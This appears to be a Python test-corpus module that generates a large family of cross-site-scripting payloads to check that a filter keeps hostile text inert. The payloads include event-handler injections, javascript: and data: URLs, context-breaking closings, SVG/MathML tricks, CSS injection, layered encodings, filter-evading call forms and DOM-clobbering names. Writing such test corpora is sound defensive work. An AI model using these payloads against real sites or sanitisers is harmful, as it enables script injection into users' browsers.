"""What acts if a page ever shows it as anything but text."""

from __future__ import annotations

import base64
from collections.abc import Iterator
from urllib.parse import quote

from tests.corpus.families.family import ACT

ELEMENTS = (
    "a", "audio", "b", "body", "button", "canvas", "details", "dialog", "div", "embed", "fieldset", "form",
    "frameset",
)  # fmt: skip
ELEMENTS += (
    "iframe", "image", "img", "input", "keygen", "link", "main", "map", "marquee", "math", "menu", "meter", "object",
)  # fmt: skip
ELEMENTS += (
    "option", "picture", "portal", "q", "script", "select", "slot", "source", "style", "svg", "table", "template",
)  # fmt: skip
ELEMENTS += ("textarea", "track", "video", "xmp", "x-unsur")
HANDLERS = (
    "onerror", "onload", "onfocus", "onblur", "onclick", "onmouseover", "onmouseenter", "ontoggle", "onbegin",
    "onend",
)  # fmt: skip
HANDLERS += (
    "onanimationstart", "onanimationend", "ontransitionend", "onpointerover", "onscroll", "onwheel", "oninput",
)  # fmt: skip
HANDLERS += (
    "onchange", "onsubmit", "onkeydown", "onpaste", "oncopy", "ondrag", "onhashchange", "onpageshow", "onpopstate",
)  # fmt: skip
HANDLERS += ("onstart", "onfinish", "onbounce", "oncanplay", "onplay", "ontimeupdate", "onbeforetoggle", "onfocusin")
SCHEMES = (
    "javascript", "JavaScript", "java\tscript", "java\nscript", "java\rscript", " javascript", "\x0bjavascript",
    "javascript ",
)  # fmt: skip
SCHEMES += (
    "&#106;avascript", "&#x6A;avascript", "java&Tab;script", "javascript&colon;", "data", "vbscript", "livescript",
    "mocha",
)  # fmt: skip
SCHEMES += (
    "view-source:javascript", "feed:javascript", "jar:javascript", "blob", "filesystem", "about", "file", "intent",
)  # fmt: skip
CLOSINGS = (
    "</script>", "</style>", "</title>", "</textarea>", "</noscript>", "</iframe>", "</select>", "</template>",
    "</svg>",
)  # fmt: skip
CLOSINGS += (
    "</math>", "</table>", "</button>", "</a>", "</form>", "</html>", "</xmp>", "</noembed>", "</noframes>", "-->",
    "--!>",
)  # fmt: skip
CLOSINGS += ("]]>", "?>", "%>", "*/", "';", '";', "`;", "\\';", '\\";', "}", "})", ")", "]", "//", "\n", "\u2028")
IMAGE = f"<img src=x onerror={ACT}>"


def elements_that_act() -> Iterator[str]:
    """Each element of HTML with one of its handlers: a filter that knows script and img lets the others through."""
    for place, element in enumerate(ELEMENTS):
        for step in (0, 5, 11):
            handler = HANDLERS[(place + step) % len(HANDLERS)]
            yield f"<{element} {handler}={ACT} autofocus tabindex=1 src=x>x</{element}>"


def handlers_that_act() -> Iterator[str]:
    """Each handler, written in the ways a browser forgives: slash for blank, capitals, line ends, no quotes."""
    for place, handler in enumerate(HANDLERS):
        gap = (" ", "/", "\t", "\n", "\x0c", "//", " x=y ")[place % 7]
        yield f"<svg{gap}{handler}={ACT}>"
        yield f"<img{gap}src=x{gap}{handler.upper()}='{ACT}'>"
        yield f'" {handler}="{ACT}" x="'
        yield f"' {handler}='{ACT}' x='"
        yield f"x {handler}={ACT} "


def closings() -> Iterator[str]:
    """What ends the place a text may stand in, then acts: script, style, title, comment, attribute, template."""
    for closing in CLOSINGS:
        yield f"{closing}{IMAGE}"
        yield f"x{closing}<script>{ACT}</script>"
        yield f"{closing}{ACT}//"
        yield f"{closing.upper()} {ACT} <!--"


def schemes() -> Iterator[str]:
    """Addresses that are programs, in each place that takes an address, with letters that browsers pass over."""
    for scheme in SCHEMES:
        yield from (f"{scheme}:{ACT}", f"{scheme}://%0a{ACT}", f'<a href="{scheme}:{ACT}">x</a>', f"<{scheme}:{ACT}>")
        yield from (f"<form action='{scheme}:{ACT}'><button>x", f"<iframe src={scheme}:{ACT}>", f"[x]: {scheme}:{ACT}")
    body = base64.b64encode(f"<script>{ACT}</script>".encode()).decode()
    for kind in ("text/html", "image/svg+xml", "text/xml", "application/xhtml+xml", "text/javascript", ""):
        yield from (
            f"data:{kind};base64,{body}", f"data:{kind},<script>{ACT}</script>",
            f"<object data='data:{kind};base64,{body}'>",
        )  # fmt: skip


def drawings() -> Iterator[str]:
    """SVG and MathML have scripts, links and animations of their own, and change how what follows is read."""
    for inner in (
        f"<script>{ACT}</script>", f"<script href='data:,{ACT}'/>",
        f"<a xlink:href='javascript:{ACT}'><text>x", "<use href='#x'/>",
        f"<animate onbegin={ACT} attributeName=x dur=1s>",
        f"<set attributeName=href to=javascript:{ACT}>", "<image href=x>",
        f"<foreignObject><img src=x onerror={ACT}></foreignObject>", f"<desc><img src=x onerror={ACT}></desc>",
        f"<style><img src=x onerror={ACT}></style>",
        f"<title><img src=x onerror={ACT}></title>", f"<p><style><!--</style>{IMAGE}",
        f"<mglyph><style><!--</style>{IMAGE}",
        f"<mtext><table><mglyph><style>{IMAGE}", f"<handler>{ACT}</handler>", "<discard/>",
        "<switch>", "<textpath>", "<metadata>", "<symbol id=x>", "<filter id=x>", "<feImage href=//contoh.invalid/x />",
    ):  # fmt: skip
        yield from (
            f"<svg>{inner}</svg>", f"<math>{inner}</math>", f"<svg><svg>{inner}",
            f"<math><annotation-xml encoding=text/html>{inner}",
        )  # fmt: skip


def styles() -> Iterator[str]:
    """Styles that ask elsewhere, cover the page or show what isn't there."""
    rules = (
        "background:url(//contoh.invalid/x)", "@import '//contoh.invalid/x'", "behavior:url(x)",
        "width:expression(1)",
    )  # fmt: skip
    rules += (
        "position:fixed;inset:0;z-index:9", "display:none", "content:attr(value)", "-moz-binding:url(x)",
        "color:re\\64",
    )  # fmt: skip
    rules += (
        "list-style:url(javascript:1)", "cursor:url(//contoh.invalid/x),auto", "font-size:9999px", "animation:x 1s",
    )  # fmt: skip
    for rule in rules:
        yield from (
            f"<style>*{{{rule}}}</style>", f"<p style='{rule}'>x", f'" style="{rule}" x="', f"}}*{{{rule}}}",
            f"x;{rule};",
        )  # fmt: skip
    yield from (
        "<link rel=stylesheet href=//contoh.invalid/x>", "<style>@charset 'utf-7';",
        "<style>input[value^='a']{}</style>",
    )  # fmt: skip


def encodings() -> Iterator[str]:
    """The same scripts in each writing that something may undo once too often."""
    for text in (f"<script>{ACT}</script>", IMAGE, f'"onload="{ACT}"'):
        once = quote(text, safe="")
        yield from (
            once, quote(once, safe=""), quote(quote(once, safe=""), safe=""),
            text.encode("utf-16-le").decode("latin-1"),
        )  # fmt: skip
        yield from (
            "".join(f"&#{ord(letter)};" for letter in text), "".join(f"&#x{ord(letter):x};" for letter in text),
        )  # fmt: skip
        yield from (
            "".join(f"&#{ord(letter):07d}" for letter in text), "".join(f"\\u{ord(letter):04x}" for letter in text),
        )  # fmt: skip
        yield from (
            "".join(f"\\x{ord(letter):02x}" for letter in text),
            "".join(f"%u00{ord(letter):02x}" for letter in text),
        )  # fmt: skip
        yield from (
            "".join(f"\\{ord(letter):o}" for letter in text), "".join(chr(ord(letter) + 0xFEE0) for letter in text),
        )  # fmt: skip
        yield from (
            base64.b64encode(text.encode()).decode(), text.encode("utf-7").decode(), text.replace("<", "%C0%BC"),
            text[::-1],
        )  # fmt: skip
        yield from (
            text.replace("<", "&lt"), text.replace("<", "&LT;"), text.replace("<", "\u2039"), text.replace("<", "﹤"),
        )  # fmt: skip
        yield from (
            "\x00".join(text), "\u200b".join(text), "\u00ad".join(text), text.upper(), text.swapcase(),
            f"{text}\x00",
        )  # fmt: skip


def calls() -> Iterator[str]:
    """Ways to write a call without what a filter looks for: no parentheses, no letters, no blanks."""
    for call in (
        ACT, "alert`1`", "alert(1)", "alert?.(1)", "(alert)(1)",
        "top['al'+'ert'](1)", "self[`alert`](1)", "window['__x']=1",
        "eval(atob('MQ=='))", "Function('x')()", "[].map.call`1`",
        "setTimeout('1')", "import('//contoh.invalid/x')", "throw 1",
        "location='javascript:1'", "document.write(1)",
        "fetch('//contoh.invalid')", "new Worker('x')", "[][(![]+[])[+[]]]", "debugger",
        "\\u0061lert(1)", "al\\u{65}rt(1)", "onerror=alert;throw 1",
        "{x:alert(1)}", "confirm(1)", "prompt(1)", "print()", "$=_=>1",
        "globalThis.__x=1", "parent.__x=1", "frames.__x=1",
        "Reflect.set(window,'__x',1)", "with(window)__x=1", "delete window", "``",
    ):  # fmt: skip
        yield from (
            f"<script>{call}</script>", f'<img src=x onerror="{call}">', f"javascript:{call}", f"';{call};//",
            f'";{call};//', f"${{{call}}}",
        )  # fmt: skip


def broken_markup() -> Iterator[str]:
    """Markup that is repaired by a browser into something else than a filter saw."""
    for text in (
        "<", "<<", "<>", "</", "</>", "<!", "<!-", "<!--", "<!-->", "<!--->", "<?", "<?x", "<%", "<a", "<a ", "<a b",
        "<a b=", "<a b='",
    ):  # fmt: skip
        yield from (f"{text}", f"{text}{IMAGE}", f"{IMAGE[:-1]}{text}", f"{text}script>{ACT}</script>")
    for text in (
        "<scr\x00ipt>", "<script\x0c>", "<script\x0b>", "<script/ >", "<ſcript>", "<script x>", "<script>/*",
        "<script><!--", "<sCrIpT>",
    ):  # fmt: skip
        yield from (f"{text}{ACT}</script>", f"{text}{ACT}", f"<b>{text}{ACT}</script></b>")
    for depth in (10, 100, 600):
        yield from (
            "<b>" * depth, "<table><td>" * depth, "</p>" * depth, "<select><option>" * depth,
            "<font size=9>" * depth,
        )  # fmt: skip
    yield from (
        "&", "&amp", "&amp;amp;", "&#", "&#x", "&#0;", "&#x110000;", "&#xD800;", "&#128;", "&nosuch;", "&lt;img&gt;",
        "&notit;", "&Tab;",
    )  # fmt: skip


def several_places() -> Iterator[str]:
    """One text that acts in many places at once: attribute, script, style, comment, address."""
    ends = ("'\"", "\"'`", "--></style></script>", "*/-->'\"</title>", "</textarea></title>", "]]>\"'>")
    for end in ends:
        for rest in (
            IMAGE, f"<svg/onload={ACT}>", f"<script>{ACT}</script>", f" onfocus={ACT} autofocus ",
            f"javascript:{ACT}//",
        ):  # fmt: skip
            yield from (f"{end}{rest}", f"jaVasCript:/*{end}*/{rest}", f"{end}\n{rest}<!--")
    names = (
        "location", "cookie", "forms", "body", "attributes", "csrf_token", "__x", "nextSibling", "submit", "action",
    )  # fmt: skip
    yield from (f"<{element} id={name} name={name}>" for name in names for element in ("img", "form", "a", "input"))
